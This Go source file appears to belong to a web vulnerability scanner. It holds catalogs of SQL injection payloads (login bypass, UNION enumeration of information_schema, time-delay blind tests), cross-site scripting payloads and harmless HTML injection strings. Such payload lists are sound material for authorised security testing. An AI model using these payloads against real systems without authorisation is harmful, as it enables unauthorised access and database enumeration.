// Package probe sends static lists of injection payloads to one query
// parameter of a target URL and classifies each response. Payloads are sent
// one at a time, in catalog order, without retries.
package probe

import (
	"fmt"
	"strings"

	"github.com/dmitrijs2005/gophportal/internal/common"
)

// Kind selects a payload catalog and the classifier applied to responses.
type Kind string

const (
	KindSQLi Kind = "sqli"
	KindXSS  Kind = "xss"
	KindHTML Kind = "html"
)

// Kinds lists every probe kind in a stable order.
func Kinds() []Kind {
	return []Kind{KindSQLi, KindXSS, KindHTML}
}

// ParseKind accepts a kind name, ignoring case.
func ParseKind(s string) (Kind, error) {
	k := Kind(strings.ToLower(strings.TrimSpace(s)))
	switch k {
	case KindSQLi, KindXSS, KindHTML:
		return k, nil
	}
	return "", fmt.Errorf("unknown probe kind %q: %w", s, common.ErrValidation)
}

// Category is a named group of payloads.
type Category struct {
	Name     string
	Payloads []string
}

var sqliCatalog = []Category{
	{Name: "Authentication Bypass", Payloads: []string{
		"' OR '1'='1",
		"' OR '1'='1' --",
		"' OR '1'='1' #",
		"') OR ('1'='1",
		"admin' --",
		"admin' #",
		"admin'/*",
		"' OR '1'='1' LIMIT 1 --",
	}},
	{Name: "Union Based", Payloads: []string{
		"' UNION SELECT NULL--",
		"' UNION SELECT NULL,NULL--",
		"' UNION SELECT NULL,NULL,NULL--",
		"' UNION ALL SELECT table_name,NULL FROM information_schema.tables--",
		"' UNION ALL SELECT column_name,NULL FROM information_schema.columns--",
	}},
	{Name: "Error Based", Payloads: []string{
		"' AND EXTRACTVALUE(1, CONCAT(0x7e, (SELECT @@version), 0x7e))--",
		"' AND (SELECT * FROM (SELECT(SLEEP(5)))foo)--",
		"' OR (SELECT * FROM (SELECT(SLEEP(5)))foo)--",
		"') AND SLEEP(5)--",
		"' AND (SELECT 2*3) < (SELECT * FROM (SELECT(SLEEP(5)))foo)--",
	}},
	{Name: "Blind SQL", Payloads: []string{
		"' AND SLEEP(5)--",
		"' AND IF(1=1, SLEEP(5), 0)--",
		"' AND '1'='1' AND SLEEP(5)--",
		"' WAITFOR DELAY '0:0:5'--",
		"' AND 1=(SELECT COUNT(*) FROM tabname); WAITFOR DELAY '0:0:5'--",
	}},
}

var xssCatalog = []Category{
	{Name: "Basic XSS", Payloads: []string{
		"<script>alert('XSS')</script>",
		"<img src=x onerror=alert('XSS')>",
		"<svg onload=alert('XSS')>",
		"javascript:alert('XSS')",
	}},
	{Name: "Event Handlers", Payloads: []string{
		"' onmouseover='alert(1)",
		`" onmouseover="alert(1)`,
		"' onfocus='alert(1)",
		"<body onload=alert('XSS')>",
	}},
	{Name: "HTML Attribute Break-outs", Payloads: []string{
		`" autofocus onfocus=alert(1) x="`,
		"' autofocus onfocus=alert(1) x='",
		`"><img src=x onerror=alert('XSS')><"`,
		"'><img src=x onerror=alert('XSS')><'",
	}},
	{Name: "Encoded XSS", Payloads: []string{
		"&#x3C;script&#x3E;alert('XSS')&#x3C;/script&#x3E;",
		"%3Cscript%3Ealert('XSS')%3C/script%3E",
		"<scr\x00ipt>alert(1)</scr\x00ipt>",
		"&#60;&#115;&#99;&#114;&#105;&#112;&#116;&#62;alert(1)&#60;&#47;&#115;&#99;&#114;&#105;&#112;&#116;&#62;",
	}},
}

var htmlCatalog = []Category{
	{Name: "Basic HTML", Payloads: []string{
		"<h1>Test</h1>",
		"<div>Test</div>",
		"<p>Test</p>",
		"<br>Test</br>",
	}},
	{Name: "HTML with Attributes", Payloads: []string{
		"<div class='test'>Test</div>",
		"<p style='color:red'>Test</p>",
		"<span id='test'>Test</span>",
		"<div title='test'>Test</div>",
	}},
	{Name: "Form Elements", Payloads: []string{
		"<form action='#'>Test</form>",
		"<input type='text' value='test'>",
		"<textarea>Test</textarea>",
		"<select><option>Test</option></select>",
	}},
	{Name: "HTML5 Elements", Payloads: []string{
		"<article>Test</article>",
		"<section>Test</section>",
		"<nav>Test</nav>",
		"<aside>Test</aside>",
	}},
}

// Catalog returns a copy of the payload categories for kind.
func Catalog(kind Kind) ([]Category, error) {
	var src []Category
	switch kind {
	case KindSQLi:
		src = sqliCatalog
	case KindXSS:
		src = xssCatalog
	case KindHTML:
		src = htmlCatalog
	default:
		return nil, fmt.Errorf("unknown probe kind %q: %w", kind, common.ErrValidation)
	}

	out := make([]Category, len(src))
	for i, c := range src {
		out[i] = Category{Name: c.Name, Payloads: append([]string(nil), c.Payloads...)}
	}
	return out, nil
}

func countPayloads(cats []Category) int {
	n := 0
	for _, c := range cats {
		n += len(c.Payloads)
	}
	return n
}
